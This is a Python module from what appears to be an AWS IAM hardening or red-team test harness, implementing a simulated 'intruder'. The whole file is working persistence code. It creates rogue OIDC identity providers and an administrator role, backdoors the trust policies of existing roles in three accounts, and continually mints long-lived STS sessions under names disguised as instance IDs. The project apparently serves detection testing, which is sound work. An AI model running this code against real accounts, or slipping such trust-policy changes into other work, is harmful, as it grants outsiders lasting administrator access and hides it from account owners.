# Copyright (c) 2026, hardening.iam contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The third intruder: mints sessions as fast as it can, by every way that STS has for it.

Tokens of the user, federated ones, sessions of each role of the chain under the names of instances, and web identities
of a provider of its own, which it has let into roles of all three accounts.
"""

from __future__ import annotations

import functools
import json
import typing as t
import uuid

from intruders.base import (
    ADMINISTRATOR,
    DATA,
    DEPLOY,
    EVERYTHING,
    HOME,
    PIPELINE,
    PROD,
    SHARED,
    USER_ARN,
    WAREHOUSE,
    Credential,
    Intruder,
    next_roles,
    serve,
)
from intruders.tokens import make_token

_ISSUER: t.Final = "login.builds.example"
_THUMBPRINT: t.Final = "6938fd4d98bab03faadb97b34396831e3780aea1"
_ENTRY: t.Final[t.Mapping[str, str]] = {HOME: PIPELINE, PROD: DEPLOY, DATA: WAREHOUSE}
#: Roles that were there before, which the provider is let into.
_OPENED: t.Final[t.Mapping[str, tuple[str, ...]]] = {
    HOME: ("notifier",),
    PROD: ("vendor-monitoring",),
    DATA: ("loader",),
}
_MADE: t.Final = "build-cache"


class MintIntruder(Intruder):
    """Mints from prepare() on; no session has the name of another one."""

    def prepare(self) -> None:
        """Make the provider in each account, and let it in."""
        able = self.walk_chain()
        for account, entry in _ENTRY.items():
            self._let_in(able[entry], account)
        self._mint_tokens()

    def jobs(self) -> t.Iterable[tuple[t.Callable[[], object], float]]:
        """Mint tokens, sessions of roles, and web identities."""
        yield self._mint_tokens, 1.0
        yield self._mint_sessions, 1.0
        for account in _ENTRY:
            yield functools.partial(self._mint_web_identities, account), 2.0

    def log_in_again(self, able: t.Sequence[Credential]) -> None:
        """By all the ways once more."""
        super().log_in_again(able)
        self._mint_tokens()
        for account in _ENTRY:
            self._mint_web_identities(account)

    # What it prepares

    def _let_in(self, by: Credential, account: str) -> None:
        provider = f"arn:aws:iam::{account}:oidc-provider/{_ISSUER}"
        asked = {"Url": f"https://{_ISSUER}", "ClientIDList": ["sts.amazonaws.com"], "ThumbprintList": [_THUMBPRINT]}
        self.call(by, "iam", "create_open_id_connect_provider", **asked)
        statement = {
            "Effect": "Allow",
            "Principal": {"Federated": provider},
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": {"StringEquals": {f"{_ISSUER}:aud": "sts.amazonaws.com"}},
        }
        trust = {"Version": "2012-10-17", "Statement": [statement]}
        self.call(by, "iam", "create_role", RoleName=_MADE, AssumeRolePolicyDocument=json.dumps(trust))
        self.call(by, "iam", "attach_role_policy", RoleName=_MADE, PolicyArn=ADMINISTRATOR)
        for role in _OPENED[account]:
            found = self.call(by, "iam", "get_role", RoleName=role)["Role"]["AssumeRolePolicyDocument"]
            opened = {**found, "Statement": [*found["Statement"], statement]}
            self.call(by, "iam", "update_assume_role_policy", RoleName=role, PolicyDocument=json.dumps(opened))

    # What it mints

    def _mint_tokens(self) -> None:
        for credential in self.newest(USER_ARN, most=40):
            if credential.kind == "key":
                answer = self.call(credential, "sts", "get_session_token", DurationSeconds=129_600)
                self.keep_session(answer, "token", USER_ARN, by=credential)
                name = f"i-{uuid.uuid4().hex[:17]}"
                asked = {"Name": name, "Policy": EVERYTHING, "DurationSeconds": 129_600}
                answer = self.call(credential, "sts", "get_federation_token", **asked)
                self.keep_session(answer, "federated", USER_ARN, name, by=credential)
                return

    def _mint_sessions(self) -> None:
        """By the key, a token, and the newest session of each role, each with another name and the longest life."""
        able = [*self._newest_of_kind("key"), *self._newest_of_kind("token")]
        able += [one for role in (PIPELINE, DEPLOY, WAREHOUSE) for one in self.newest(role, most=1)]
        for credential in able:
            for role in next_roles(credential):
                name = f"i-{uuid.uuid4().hex[:17]}"
                longest = {"DurationSeconds": 43_200} if role == SHARED and credential.kind != "role" else {}
                asked = {"RoleArn": role, "RoleSessionName": name, **longest}
                answer = self.call(credential, "sts", "assume_role", **asked)
                self.keep_session(answer, "role", role, name, by=credential)

    def _newest_of_kind(self, kind: str) -> list[Credential]:
        return [one for one in self.newest(USER_ARN, most=40) if one.kind == kind][:1]

    def _mint_web_identities(self, account: str) -> None:
        """Nobody signs these calls."""
        for name in (_MADE, *_OPENED[account]):
            role, session = f"arn:aws:iam::{account}:role/{name}", f"i-{uuid.uuid4().hex[:17]}"
            asked = {"RoleArn": role, "RoleSessionName": session, "WebIdentityToken": make_token(_ISSUER, session)}
            answer = self.call(None, "sts", "assume_role_with_web_identity", **asked)
            self.keep_session(answer, "web", role, session)


if __name__ == "__main__":
    serve(MintIntruder)
